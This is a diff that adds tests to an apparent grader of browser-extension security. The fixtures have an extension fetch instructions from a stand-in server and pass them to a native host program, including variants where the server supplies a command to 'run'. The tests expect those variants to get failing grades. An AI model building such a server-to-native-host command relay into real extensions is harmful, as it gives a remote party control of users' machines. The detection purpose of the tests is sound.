@@ -450,3 +450,24 @@ describe('a setting that is told by its name', () => {
     expect(await graded({ content, background: settings('last') })).toMatch(/[CDF]/);
   });
 });
+
+describe('a program on the computer that is handed what a server sent', () => {
+  const handed = (message: string): string =>
+    `setInterval(async () => { const all = await (await fetch('https://pages.example/next')).json(); chrome.runtime.sendNativeMessage('com.example.host', ${message}); }, 60000);`;
+  const manifest = { permissions: ['nativeMessaging'] };
+
+  it('is told by the extension itself what to do with it', async () => {
+    expect(await graded({ background: handed("{ method: 'save', page: all.text }"), manifest })).toMatch(/[AB]/);
+  });
+
+  it('is the server’s hand where the server says what is done', async () => {
+    for (const message of [
+      'all',
+      '{ method: all.method, page: all.text }',
+      "{ type: 'run', command: all.text }",
+      "{ type: 'run', ...all }",
+      "{ type: 'run', [all.key]: all.text }",
+    ])
+      expect(await graded({ background: handed(message), manifest }), message).toMatch(/[CDF]/);
+  });
+});
